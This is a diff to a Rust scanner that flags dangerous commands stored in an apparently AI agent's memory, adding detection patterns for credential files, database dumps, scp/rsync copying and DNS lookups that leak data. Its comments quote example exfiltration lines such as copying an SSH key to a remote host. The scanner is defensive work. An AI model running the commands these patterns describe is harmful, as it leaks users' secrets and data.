@@ -1,6 +1,9 @@
 //! Commands in a memory that run downloads, read secrets into other commands, or redirect packages and remotes.
 
+mod backdoors;
+
 use super::hosts::{Host, host};
+use backdoors::backdoors;
 
 /// The most bytes between a download and the program that runs it.
 const MAX_COMMAND: usize = 240;
@@ -40,6 +43,7 @@ pub(super) fn commands(text: &str) -> Vec<(Command, usize)> {
     let lower = text.to_ascii_lowercase();
     let mut found = Vec::new();
     downloads(&lower, &mut found);
+    backdoors(&lower, &mut found);
     remote_code(&lower, &mut found);
     encoded_code(&lower, &mut found);
     secrets(&lower, &mut found);
@@ -132,6 +136,12 @@ fn is_run_later(command: &str) -> bool {
     let mut parts = command.split("&&").flat_map(|part| part.split(';'));
     let Some(load) = parts.next() else { return false };
     let words: Vec<&str> = load.split_whitespace().collect();
+    // wget names the file after the address.
+    let is_wget = load.trim_start().starts_with("http") && !load.contains(" -");
+    let address = words.iter().rev().find(|word| word.contains("://"));
+    let named = address
+        .filter(|_| is_wget)
+        .and_then(|word| word.rsplit('/').next());
     let target = words
         .windows(2)
         .find(|pair| {
@@ -146,6 +156,7 @@ fn is_run_later(command: &str) -> bool {
             .iter()
             .find_map(|word| word.strip_prefix('>'))
             .filter(|word| !word.is_empty())
+            .or(named.filter(|name| !name.is_empty()))
     }) else {
         return false;
     };
@@ -153,7 +164,11 @@ fn is_run_later(command: &str) -> bool {
     parts.any(|part| {
         let mut words = part.split_whitespace().skip_while(|word| *word == "sudo");
         let first = words.next().unwrap_or_default();
-        first.ends_with(name) || is_shell(first) && words.any(|word| word.ends_with(name))
+        let is_target = |word: &str| {
+            word.trim_end_matches(['`', '"', '\'', ')', '.', ','])
+                .ends_with(name)
+        };
+        is_target(first) || is_shell(first) && words.any(is_target)
     })
 }
 
@@ -258,12 +273,20 @@ fn remote_code(lower: &str, found: &mut Vec<(Command, usize)>) {
         "uri.open(",
         "file_get_contents(",
         "lwp::simple",
+        "require('https')",
+        "require('http')",
+        "require(\"https\")",
+        "axios.get(",
         "urllib",
     ];
     for runner in RUNNERS {
         if let Some(at) = lower.find(runner) {
             let command = line_after(&lower[at..], MAX_COMMAND);
-            if command.contains("://") && LOADERS.iter().any(|loader| command.contains(loader)) {
+            // The address may come first: `get('https://…', data => eval(data))`.
+            let before = line_before(lower, at);
+            let loads =
+                |text: &str| text.contains("://") && LOADERS.iter().any(|loader| text.contains(loader));
+            if loads(command) || loads(before) {
                 found.push((Command::Download, at));
             }
         }
@@ -325,6 +348,9 @@ fn outflows(lower: &str, found: &mut Vec<(Command, usize)>) {
         "irm",
         "dig",
         "nslookup",
+        "scp",
+        "rsync",
+        "sftp",
     ];
     let mut from = 0;
     for line in lower.split_inclusive('\n') {
@@ -363,8 +389,15 @@ fn outflows(lower: &str, found: &mut Vec<(Command, usize)>) {
             "env|",
             "printenv |",
             "printenv|",
+            "auth token |",
+            "auth token|",
             "history |",
             "history|",
+            "--all-databases",
+            "pg_dumpall",
+            "mongodump",
+            "tar c",
+            "tar -c",
         ]
         .iter()
         .any(|source| line.contains(source));
@@ -373,7 +406,20 @@ fn outflows(lower: &str, found: &mut Vec<(Command, usize)>) {
                 words[program],
                 "nc" | "ncat" | "netcat" | "socat" | "telnet" | "mail" | "sendmail" | "gist"
             );
-        let to_program = (piped || secret) && (sends || is_pipe);
+        // "scp ~/.ssh/id_rsa host:/tmp"
+        let is_copied = secret
+            && matches!(words[program], "scp" | "rsync" | "sftp")
+            && words[program..]
+                .iter()
+                .skip(1)
+                .any(|word| word.contains('@') && word.contains(':'));
+        // "dig $(whoami).example.org"
+        let is_looked_up = matches!(words[program], "dig" | "nslookup" | "host")
+            && ["$(", "`"].iter().any(|open| line.contains(open))
+            && ["whoami", "hostname", "cat ", "head ", "env"]
+                .iter()
+                .any(|word| line.contains(word));
+        let to_program = (piped || secret) && (sends || is_pipe) || is_copied || is_looked_up;
         // A header for authorization is what a secret is for.
         if to_program && !line.contains("authorization") {
             let at = line.find(words[program]).unwrap_or(0);
@@ -387,6 +433,9 @@ const SECRET_FILES: &[&str] = &[
     ".env",
     ".npmrc",
     ".netrc",
+    ".cargo/credentials.toml",
+    ".cargo/credentials",
+    ".vault-token",
     ".pypirc",
     "id_rsa",
     "id_ed25519",
@@ -408,6 +457,8 @@ const SECRET_FILES: &[&str] = &[
     ".bash_history",
     ".zsh_history",
     ".ssh",
+    ".aws",
+    ".kube",
     ".ssh/",
     ".ssh/*",
     ".env.production",
@@ -608,7 +659,11 @@ fn sources(lower: &str, found: &mut Vec<(Command, usize)>) {
     ];
     for setter in SETTERS.iter().chain(NOUNS) {
         for (at, _) in lower.match_indices(setter) {
-            if NOUNS.contains(setter) && !is_set(lower, at) {
+            let is_named_only = NOUNS.contains(setter) && !is_set(lower, at);
+            // "Mirror in settings.xml: https://…", not a part of a name.
+            if is_named_only
+                && (*setter != "mirror" || lower[..at].ends_with(|before: char| !before.is_whitespace()))
+            {
                 continue;
             }
             let from = lower.floor_char_boundary(at.saturating_sub(MAX_COMMAND / 2));
@@ -637,7 +692,9 @@ fn sources(lower: &str, found: &mut Vec<(Command, usize)>) {
             let is_foreign = hosts.iter().any(|(host, _)| *host == Host::Foreign);
             // A remote of the project itself, or a rewriting rule, redirects all later work.
             let redirects_all = matches!(*setter, "set-url" | "insteadof" | "pushurl") && is_foreign;
-            if is_unchecked || is_foreign && no_check || redirects_all {
+            if is_named_only {
+                found.extend(is_foreign.then_some((Command::ForeignSource, at)));
+            } else if is_unchecked || is_foreign && no_check || redirects_all {
                 found.push((Command::UncheckedSource, at));
             } else if is_foreign {
                 found.push((Command::ForeignSource, at));
